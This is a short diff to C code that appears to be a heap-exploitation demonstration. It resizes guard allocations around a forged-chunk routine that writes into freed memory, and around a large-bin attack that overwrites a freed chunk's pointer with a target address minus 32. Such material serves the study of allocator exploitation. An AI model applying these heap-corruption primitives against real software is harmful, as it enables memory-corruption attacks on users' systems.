@@ -17,9 +17,9 @@ static bool target_changed(void) {
 static void forge(size_t bytes, const uint64_t *words, size_t count) {
     settle_in();
     char *const victim = take(bytes);
-    void *const barrier = take(64);
+    void *const barrier = take(0x3F0);
     void *const neighbour = take(bytes);
-    void *const other_barrier = take(64);
+    void *const other_barrier = take(0x3F0);
     free(victim);
     for (size_t i = 0; i < count; i++) {
         if (words[i]) write_word(victim + i * 8, words[i]);
@@ -49,11 +49,10 @@ static void by_size(void) {
     settle_in();
     // Whatever other free blocks there are of about the size is used up first.
     for (size_t i = 0; i < SPRAY; i++) (void)take(0x3F0);
-    (void)take(24);
     char *const larger = take(0x428);
-    (void)take(24);
+    (void)take(0x3F0);
     char *const smaller = take(0x418);
-    (void)take(24);
+    (void)take(0x3F0);
     free(larger);
     (void)take(0x438);
     write_word(larger + 24, target - 32);
